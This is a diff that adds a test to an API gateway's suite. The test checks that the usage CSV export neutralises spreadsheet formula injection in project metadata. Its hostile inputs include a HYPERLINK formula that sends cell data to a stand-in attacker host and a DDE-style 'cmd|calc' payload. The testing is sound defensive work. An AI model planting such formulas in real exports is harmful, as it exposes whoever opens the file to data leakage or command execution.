@@ -113,3 +113,23 @@ describe('invalid UTF-8 inside a JSON string is refused, not replaced with U+FFF
     expect(JSON.stringify(await res.json())).toContain('héllo 日本 🚀');
   });
 });
+
+describe('the usage CSV cannot carry a spreadsheet formula', () => {
+  it('a metadata value starting with =, +, -, @, tab or CR is exported as text', async () => {
+    const hostile = ['=HYPERLINK("http://evil.example/?"&A1,"open")', '+1+cmd|calc', '-2+3', '@SUM(A1)', '\t=1', '\r=1'];
+    for (const project of hostile) {
+      const res = await fetch(`${gw.url}/v1/chat/completions`, {
+        method: 'POST',
+        headers: { ...auth, 'x-gatehouse-metadata': JSON.stringify({ project }) },
+        body: JSON.stringify({ model: 'demo/echo', messages: [{ role: 'user', content: 'x' }] }),
+      });
+      expect(res.status).toBe(200);
+    }
+    const res = await fetch(`${gw.url}/api/usage?by=project&format=csv`, { headers: auth });
+    const text = await res.text();
+    const keys = text.trimEnd().split('\r\n').slice(1).map((row) => row.split(',')[1]!);
+    for (const key of keys) expect(key, text).not.toMatch(/^"?[=+\-@\t\r]/);
+    expect(text).toContain(`"'=HYPERLINK(""http://evil.example/?""&A1`);
+    expect(text).toContain("'-2+3");
+  });
+});
